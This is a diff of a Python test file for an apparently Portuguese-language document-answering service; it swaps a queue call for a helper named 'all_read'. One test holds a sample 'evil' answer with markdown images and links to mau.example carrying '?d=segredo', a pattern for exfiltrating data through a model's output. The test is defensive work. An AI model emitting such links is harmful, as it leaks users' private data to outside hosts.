@@ -33,7 +33,7 @@ from govbot.operations.runtime import Services
 from tests.security.world import api_key
 from tests.support.accounts import API, code, custom, with_password
 from tests.support.people import Person, person
-from tests.support.services import address, served, settings_for, take_in
+from tests.support.services import address, all_read, served, settings_for, take_in
 from tests.support.site import site
 from tests.test_guard import raw
 
@@ -45,7 +45,7 @@ async def restricted(services: Services) -> tuple[Person, UUID]:
     """Return somebody, and a document that only they and administrators may read."""
     owner = await person(services, ANALYST)
     document = await take_in(services, owner.asker, f"norma-{uuid4().hex[:6]}", HIDDEN)
-    await services.queue.work(concurrency=1, wait=False)
+    await all_read(services)
     await services.rights.show(owner.asker, Node("document", document), "restricted")
     return owner, document
 
@@ -215,7 +215,7 @@ async def test_an_answer_loads_nothing_from_elsewhere(
     who = await person(services, ADMIN)
     text = f"Art. 1º O prazo do recurso {uuid4().hex[:6]} é de dez dias."
     await take_in(services, who.asker, "recurso", text)
-    await services.queue.work(concurrency=1, wait=False)
+    await all_read(services)
     evil = (
         "O prazo do recurso é de dez dias [1]. ![x](https://mau.example/p.png?d=segredo) "
         "[veja][r] <img src=https://mau.example/q>\n\n[r]: https://mau.example/r?d=segredo"
